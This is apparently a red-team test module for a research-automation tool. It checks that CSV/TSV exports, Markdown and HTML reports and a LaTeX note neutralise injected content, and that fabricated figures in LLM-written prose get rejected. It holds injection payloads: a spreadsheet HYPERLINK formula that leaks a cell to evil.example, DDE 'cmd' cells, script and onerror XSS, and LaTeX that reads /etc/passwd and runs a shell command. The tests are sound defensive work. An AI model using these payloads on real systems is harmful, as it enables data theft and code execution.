"""Class 7 of issue #20, what we render: a proposer's text and an LLM's prose reach every export as text.

A proposer's rationales are spreadsheet formulas and LaTeX commands, its strategies raw HTML, scripts,
Markdown links and images, and one candidate fails with the same in its stderr (a failure reason). After
the study, `autoresearch export --format csv/tsv`, `report` and `writeup --no-ablation --latex` run, and
each scenario returns what got through: a formula cell, a tag, link or image that would act in
report.md, the note or report.html, a LaTeX command the note did not write itself, or, with an LLM
writing the note's prose, a fabricated figure (a false ratio, a wrong sign, a number in words) that
reached note.md. The defences are in the writers (report/escape.py, report/numbers.py): they hold under
every sandbox kind.
"""

from __future__ import annotations

import csv
import json
import re
import subprocess
from pathlib import Path

from markdown_it import MarkdownIt

from tests.fake_llm import FakeLLMServer, Reply
from tests.redteam.scenarios import PYTHON, Attack, play

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
HTML = (
    "<script>alert('ar')</script><img src=x onerror=alert(1)> [win](http://evil.example/win) "
    "![px](http://evil.example/px.png) <http://evil.example/auto> www.evil.example "
    "<a href='http://evil.example/a'>plotly renders links</a>"
)
LATEX = r"\input{/etc/passwd} \immediate\write18{touch pwned} \def\x{1} $x^2$ \end{document}"

PROPOSALS = [
    {"params": {"cheat": 1}, "rationale": FORMULA, "strategy": HTML},
    {"params": {"cheat": 2}, "rationale": LATEX + " " + HTML, "strategy": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"params": {"cheat": 3}, "rationale": "-2+3+cmd|' /C calc'!A0", "strategy": LATEX},
]

PROPOSER = """
import json, sys
study = json.load(sys.stdin)
step = len(study["history"]) + len(study["pending"]) - 1
proposals = json.load(open("evil.json"))
print(json.dumps(proposals[step] if step < len(proposals) else {"done": True}))
"""

EXPERIMENT = f"""
import sys
cheat = int(sys.argv[1])
if cheat == 2:  # a failure whose reason is the stderr's last line
    sys.stderr.write({HTML + " " + FORMULA + " " + LATEX!r} + "\\n")
    sys.exit(1)
print("loss:", 1.0 - 0.1 * cheat)
"""


def _study(root: Path, kind: str) -> Path:
    play(
        root,
        kind,
        EXPERIMENT,
        cheats=len(PROPOSALS),
        proposer="evil.py",
        files={"evil.py": PROPOSER, "evil.json": json.dumps(PROPOSALS)},
    )
    return root


def _cli(*args: str) -> str | None:
    done = subprocess.run([PYTHON, "-m", "autoresearch", *args], capture_output=True, text=True, timeout=300)
    return None if done.returncode == 0 else f"autoresearch {' '.join(args)} failed: {done.stderr[-500:]}"


# -- spreadsheets --------------------------------------------------------------------------------------

_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def formula_in_spreadsheet(root: Path, kind: str) -> str | None:
    """A rationale, a strategy and a failure reason that are spreadsheet formulas, exported as CSV and TSV."""
    _study(root, kind)
    seen = 0
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        problem = _cli("export", "--format", fmt, str(root))
        if problem:
            return problem
        with open(root / f"results.{fmt}", newline="") as handle:
            rows = list(csv.reader(handle, delimiter=delimiter))
        for cell in (cell for row in rows for cell in row):
            first = cell.lstrip(" \t\r")[:1]
            if first in ("=", "+", "-", "@") and not _NUMBER.fullmatch(cell.strip()):
                return f"results.{fmt} has a cell a spreadsheet reads as a formula: {cell[:80]!r}"
            seen += "HYPERLINK" in cell
    return None if seen >= 2 else "the formula never reached the export: the scenario tests nothing"


# -- Markdown, HTML, LaTeX -----------------------------------------------------------------------------


_FORMATTING = (
    r"</?(?:p|code|pre|strong|em|h\d|ul|ol|li|br|hr|blockquote|table|thead|tbody|tr|th|td)\s*/?>"
    r'|<code class="language-\w+">'
)


def acting_markdown(markdown: str, own_images: tuple[str, ...] = ()) -> str | None:
    """What in MARKDOWN would act once rendered (CommonMark with raw HTML on, as GitHub renders it): a tag
    other than plain formatting and our own images (a script, a handler, a link, an image), or outside
    code a bare URL that GitHub would link."""
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    for tag in re.findall(r"<[a-zA-Z/!?][^>]*>?", rendered):
        own = re.fullmatch(r'<img src="([^"]*)"[^>]*>', tag)
        if not re.fullmatch(_FORMATTING, tag) and not (own and own.group(1) in own_images):
            return f"a live tag: {tag[:100]}"
    outside = re.sub(r"<(code|pre)\b[^>]*>.*?</\1>", " ", rendered, flags=re.DOTALL)
    bare = re.search(r"https?://\S*|www\.\S+", outside)
    return f"a bare link: {bare.group(0)[:80]}" if bare else None


# The commands note.tex writes itself (report/note.py's to_latex and escape).
_OWN_LATEX = set(
    re.findall(
        r"\w+",
        "documentclass usepackage title date begin end maketitle section subsection item texttt textbf "
        "textbackslash textasciitilde textasciicircum textless textgreater textbar toprule midrule bottomrule "
        "includegraphics caption centering linewidth raggedright arraybackslash ldots rightarrow leftarrow Delta "
        "pm times leq geq approx",
    )
)


def foreign_latex(tex: str) -> str | None:
    commands = set(re.findall(r"\\([A-Za-z]+)", tex)) - _OWN_LATEX
    if commands:
        return f"note.tex runs commands it did not write: {sorted(commands)}"
    if tex.count(r"\end{document}") != 1:
        return r"note.tex ends its document more than once"
    return None


def html_in_report_and_note(root: Path, kind: str) -> str | None:
    """Strategies of raw HTML, scripts, links and images, and rationales of LaTeX commands, in report.md,
    report.html, note.md and note.tex."""
    _study(root, kind)
    for args in (("report", str(root)), ("writeup", "--no-ablation", "--latex", str(root))):
        problem = _cli(*args)
        if problem:
            return problem
    study_dir = root / ".autoresearch" / "rt"
    report_md = (study_dir / "report" / "report.md").read_text()
    note_md = (study_dir / "writeup" / "note.md").read_text()
    if "evil.example" not in report_md or "evil.example" not in note_md:
        return "the payload never reached report.md or note.md: the scenario tests nothing"
    for name, text, images in (
        ("report.md", report_md, ("progress.png", "lineage.png")),
        ("note.md", note_md, ("progress.png", "lineage.png")),
    ):
        acting = acting_markdown(text, images)
        if acting:
            return f"{name}: {acting}"
    acting = live_html(study_dir / "report" / "report.html")
    if acting:
        return f"report.html: {acting}"
    return foreign_latex((study_dir / "writeup" / "note.tex").read_text())


CHROMIUM = "/usr/bin/chromium"
# Once report.html has drawn its plots (hover texts and labels included): an element the payload made,
# a handler it planted, a script of its own, a link or image pointing at its host.
_LIVE = """() => [
  ...document.querySelectorAll('[onerror], [onload]:not(body), [onmouseover], [href*="evil"], [src*="evil"]'),
  ...[...document.querySelectorAll('a')].filter(a => (a.getAttribute('href') || a.getAttribute('xlink:href') || '')
      .includes('evil')),
  ...[...document.querySelectorAll('script')].filter(s => (!s.type || /javascript|module/.test(s.type))
      && s.textContent.includes("alert(")),
].map(e => e.outerHTML.slice(0, 100))"""


def live_html(path: Path) -> str | None:
    """What of the payload acts in PATH opened in headless Chromium (offline): a dialog, or _LIVE's elements."""
    from playwright.sync_api import sync_playwright

    dialogs: list[str] = []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--headless"])
        try:
            page = browser.new_page()
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.route(
                "**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort()
            )
            page.goto(path.as_uri())
            page.wait_for_function("document.querySelectorAll('.js-plotly-plot .main-svg').length >= 3")
            found: list[str] = page.evaluate(_LIVE)
        finally:
            browser.close()
    if dialogs:
        return f"a script ran: alert({dialogs[0]!r})"
    return f"live elements: {found[:3]}" if found else None


# -- an LLM's prose ------------------------------------------------------------------------------------

FABRICATED = [
    "The best is 37x faster than the baseline.",  # 37: no ratio of the study
    "The loss rose by 30.0% from the baseline.",  # it fell
    "The best improved by -30.0% over the baseline.",  # a wrong sign
    "It was thirty-seven percent better.",  # a number in words
    "The best is twice as fast.",  # a ratio in words
    "It improved by 3\u200b7%.",  # an invisible split
]


def llm_fabricates_figures(root: Path, kind: str) -> str | None:
    """The LLM writing the note's prose slips fabricated figures and raw HTML into each section."""
    _study(root, kind)
    server = FakeLLMServer()
    try:
        sections = ("abstract", "results", "ablation", "threats")
        for claim in FABRICATED:
            prose = {key: f"{claim} <img src=x onerror=alert(1)> [more](http://evil.example/)" for key in sections}
            server.script(Reply(text=json.dumps(prose)))
            llm = ("--llm", "llm:vllm/writer", "--llm-base-url", server.openai_url)
            done = subprocess.run(
                [PYTHON, "-m", "autoresearch", "writeup", "--no-ablation", str(root), *llm],
                capture_output=True,
                text=True,
                timeout=300,
            )
            if done.returncode != 0:
                return f"writeup --llm failed: {done.stderr[-500:]}"
            note = (root / ".autoresearch" / "rt" / "writeup" / "note.md").read_text()
            if claim in note:
                return f"note.md states {claim!r}"
            if "stated numbers not in the store" not in done.stderr:
                return f"writeup did not say it rejected {claim!r}: {done.stderr[-300:]}"
            acting = acting_markdown(note, ("progress.png", "lineage.png"))
            if acting:
                return f"note.md: {acting}"
    finally:
        server.close()
    return None


ATTACKS = [
    Attack("formula in a rationale reaches a spreadsheet", 7, formula_in_spreadsheet),
    Attack("HTML, links and LaTeX reach the report and the note", 7, html_in_report_and_note),
    Attack("an LLM's prose fabricates figures", 7, llm_fabricates_figures),
]
